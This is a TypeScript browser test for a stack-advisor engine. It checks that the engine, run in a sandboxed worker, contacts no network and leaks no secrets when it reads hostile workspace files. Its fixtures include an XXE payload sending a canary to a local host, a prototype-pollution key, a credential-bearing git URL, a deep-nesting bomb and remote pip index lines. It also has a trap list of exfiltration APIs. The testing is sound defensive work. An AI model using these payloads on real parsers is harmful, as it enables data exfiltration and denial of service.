import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'mocha';
import type { Browser } from 'playwright-core';
import { toRecommendation } from '../../src/core/advise/toRecommendation.ts';
import { sayIn } from '../../src/core/report/say.ts';
import { Session } from '../../src/engine/session.ts';
import { loadCatalogue } from '../../src/knowledge/catalogue.ts';
import { launchChromium } from '../support/chromium.ts';
import { CANARY, SECRET } from '../support/hostileMarks.ts';
import { MemoryFiles } from '../support/memoryFiles.ts';
import { ROOT } from '../support/paths.ts';

/** In the worker, before the engine: each way out is noted at the page and refused. */
const TRAPS = `
for (const name of ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'Worker', 'WebTransport', 'indexedDB', 'caches', 'eval', 'Function']) {
  if (!(name in self)) continue;
  Object.defineProperty(self, name, { configurable: true, get() { self.postMessage({ trapped: name }); throw new Error(name + ' is trapped'); } });
}
Object.defineProperty(self.navigator, 'sendBeacon', { get() { self.postMessage({ trapped: 'sendBeacon' }); throw new Error('trapped'); } });
`;

interface Setting {
  readonly script: string;
  readonly knowledge: string;
  readonly files: Readonly<Record<string, string>>;
}

/** In the page: runs a script as a worker, answers its requests from memory, and asks it for all that it can tell. */
async function drive({ script, knowledge, files }: Setting): Promise<{ trapped: string[]; output: string }> {
  const worker = new Worker(URL.createObjectURL(new Blob([script], { type: 'text/javascript' })));
  const trapped: string[] = [];
  const waiting = new Map<number, (value: unknown) => void>();
  const list = (path: string) => {
    const prefix = path === '' ? '' : `${path}/`;
    const below = Object.keys(files).filter((file) => file.startsWith(prefix));
    const names = new Map(below.map((file) => [file.slice(prefix.length).split('/')[0] ?? '', file]));
    return {
      ok: true,
      entries: [...names].map(([name, file]) => ({ name, kind: file === prefix + name ? 'file' : 'folder' })),
    };
  };
  const read = (path: string) =>
    files[path] === undefined
      ? { ok: false, failure: 'not-found' }
      : { ok: true, bytes: new TextEncoder().encode(files[path]) };
  worker.addEventListener('message', ({ data }: MessageEvent<Record<string, unknown>>) => {
    if (typeof data['trapped'] === 'string') trapped.push(data['trapped']);
    if (data['type'] === 'reply')
      waiting.get(data['id'] as number)?.(data['ok'] === true ? data['value'] : `failed: ${String(data['value'])}`);
    if (data['type'] !== 'call') return;
    const [, path] = data['args'] as [string, string];
    const value = data['method'] === 'listFolder' ? list(path) : data['method'] === 'readFile' ? read(path) : undefined;
    worker.postMessage({ type: 'reply', id: data['id'], ok: true, value });
  });
  let id = 0;
  const call = (method: string, ...args: unknown[]): Promise<unknown> =>
    new Promise((resolve) => {
      waiting.set(++id, resolve);
      worker.postMessage({ type: 'call', id, method, args });
    });
  const output: unknown[] = [];
  output.push(
    await call('initialize', { knowledge, translations: {}, today: '2026-11-24', version: '0.0.0', givenUp: [] }),
  );
  output.push(await call('openFolder', 'f', { name: 'hostile', excludes: [], diskPath: null }));
  for (const format of ['markdown', 'madr', 'sarif', 'json']) output.push(await call('export', 'f', format));
  for (const [path, text] of Object.entries(files))
    output.push(await call('hover', 'f', path, text, Math.max(0, text.indexOf('express'))));
  worker.terminate();
  return { trapped, output: JSON.stringify(output) };
}

/** Workspaces whose advice has to be the same wherever it is worked out: a start, a stack that runs, one to extend. */
const ADVISED: readonly Readonly<Record<string, string>>[] = [
  { 'stack-advisor.json': '{"schemaVersion":1,"answers":{}}' },
  {
    'package.json': '{"dependencies":{"express":"^5","pg":"^8"},"engines":{"node":">=22"}}',
    'stack-advisor.json':
      '{"schemaVersion":1,"answers":{"productType":"realtime","performance":["cpu-bound"],"teamSize":"small","hiringCountry":"DE"}}',
  },
  {
    'requirements.txt': 'django==5.2\npsycopg==3.2\n',
    'stack-advisor.json':
      '{"schemaVersion":1,"answers":{"performance":["high-concurrency"],"measuredBottleneck":true,"teamSize":"medium"},"weights":{"hiring":0.1}}',
  },
];

const FILES: Readonly<Record<string, string>> = {
  'ok/package.json': '{"dependencies":{"koa":"^2.15.0"}}',
  'evil/package.json': `{"__proto__":{"x":1},"dependencies":{"express":"^4","a":"git+https://user:${SECRET}@host.invalid/a.git","deep":${'['.repeat(5000)}`,
  'xml/pom.xml': `<!DOCTYPE project SYSTEM "http://127.0.0.1:9/evil.dtd" [<!ENTITY x SYSTEM "http://127.0.0.1:9/${CANARY}">]><project><version>&x;</version></project>`,
  'python/requirements.txt': '--index-url http://127.0.0.1:9/simple\n-r http://127.0.0.1:9/r.txt\nflask==3.0\n',
  'stack-advisor.json': '{"$schema":"http://127.0.0.1:9/schema.json","schemaVersion":1,"answers":{}}',
};

describe('the engine as the browser runs it', () => {
  let browser: Browser;
  const dist = (file: string): string => readFileSync(join(ROOT, 'dist', file), 'utf8');
  before(async () => (browser = await launchChromium()));
  after(() => browser.close());

  async function run(
    script: string,
    files: Readonly<Record<string, string>> = FILES,
  ): Promise<{ trapped: string[]; output: string; requests: string[] }> {
    const page = await browser.newPage();
    const requests: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    try {
      // A bundler's helper that the function's text refers to.
      await page.addInitScript('globalThis.__name = (value) => value;');
      await page.goto('about:blank');
      const result = await page.evaluate(drive, { script, knowledge: dist('knowledge.json'), files });
      return { ...result, requests: requests.filter((url) => !/^(?:about|blob):/.test(url)) };
    } finally {
      await page.close();
    }
  }

  it('is watched by traps that catch', async () => {
    const probe = `try { fetch('http://127.0.0.1:9') } catch {} try { navigator.sendBeacon('http://127.0.0.1:9') } catch {}\n`;
    const { trapped } = await run(TRAPS + probe + dist('engine.web.js'));
    assert.deepEqual(trapped, ['fetch', 'sendBeacon']);
  });

  it('reaches nothing, whatever a workspace asks for', async () => {
    const { trapped, output, requests } = await run(TRAPS + dist('engine.web.js'));
    assert.deepEqual(trapped, []);
    assert.deepEqual(requests, []);
    assert.match(output, /koa/);
    assert.match(output, /flask/i);
    assert.match(output, /entity-refused/);
    assert.doesNotMatch(output, /failed: /);
    for (const mark of [SECRET, CANARY]) assert.ok(!output.includes(mark), mark);
  });

  it('advises to the byte as the engine in Node does', async () => {
    const catalogue = loadCatalogue(JSON.parse(dist('knowledge.json')) as unknown);
    for (const files of ADVISED) {
      const session = await Session.open(new MemoryFiles(files), catalogue, sayIn(), { name: 'hostile', excludes: [] });
      const inNode = `${JSON.stringify(toRecommendation(session.advice(), sayIn()), null, 2)}\n`;
      // What was initialised and opened, then Markdown, MADR, SARIF and JSON.
      const inBrowser = (JSON.parse((await run(dist('engine.web.js'), files)).output) as unknown[])[5];
      assert.equal(inBrowser, inNode);
      assert.match(inNode, /"rankAcceptability"/);
    }
  });
});
